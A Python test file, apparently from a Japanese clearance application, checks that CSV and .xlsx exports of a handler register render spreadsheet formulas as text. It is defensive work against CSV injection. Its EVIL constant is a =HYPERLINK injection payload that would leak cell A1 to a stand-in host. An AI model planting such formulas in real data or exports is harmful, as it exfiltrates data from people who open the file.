"""Spreadsheet formulas in exports (OWASP CSV injection): a person named =HYPERLINK(...) becomes a
handler; every CSV and .xlsx export that carries names (the handler register) shows the name as
text, never as a formula, and control characters never reach a cell. The cell rule is checked for
every formula start."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from clearance.domain.exports import FORMULA_START, cell
from clearance.domain.model import new_id
from clearance.domain.records import Handler
from tests.conftest import FakeClock
from tests.e2e.flows import Flow
from tests.e2e.test_cesi import World
from tests.ui.browserless import Browser

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"開く")'


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_written_as_text(start: str) -> None:
    assert cell(f"{start}1+1").startswith("'")
    assert cell("田中") == "田中" and cell(-5) == -5 and cell("a\x00b") == "a\\x00b"


def test_a_formula_in_a_name_is_text_in_every_export(client: TestClient, clock: FakeClock) -> None:
    w = World(Flow(client, clock))
    f = w.f
    person = f.post("sakura.security", "/persons", {
        "family_name": EVIL, "given_name": "花子", "family_name_kana": "タナカ",
        "given_name_kana": "ハナコ", "date_of_birth": "1990-01-01",
        "employer_id": f.orgs["SAKURA-HI"]}, 201)  # fmt: skip
    # The register lists handlers; whether this one may be a handler is not the point here.
    with client.app.state.ctx.deps.uow() as uow:
        uow.records.add(Handler(new_id(), uuid.UUID(w.designation), uuid.UUID(person["id"]),
                                uuid.UUID(f.orgs["SAKURA-HI"]), "開発部", clock.now(), "test"))  # fmt: skip
        uow.commit()
    b = Browser(client.app, clock, "sakura.security")
    rows = list(
        csv.reader(io.StringIO(b.c.get("/handlers/register.csv").content.decode("utf-8-sig")))
    )
    names = [r[1] for r in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names
    api = f.c.get("/api/v1/handlers/register", headers=f.h("sakura.security"))
    api_names = [r[1] for r in list(csv.reader(io.StringIO(api.text.lstrip("\ufeff"))))[1:]]
    assert "'" + EVIL in api_names
    sheet = load_workbook(io.BytesIO(b.c.get("/handlers/register.xlsx").content)).active
    assert sheet is not None
    values = [c.value for c in sheet["A"]]
    assert any(str(v).startswith("'=HYPERLINK") for v in values), values
    assert not any(c.data_type == "f" for c in sheet["A"])  # no formula cell
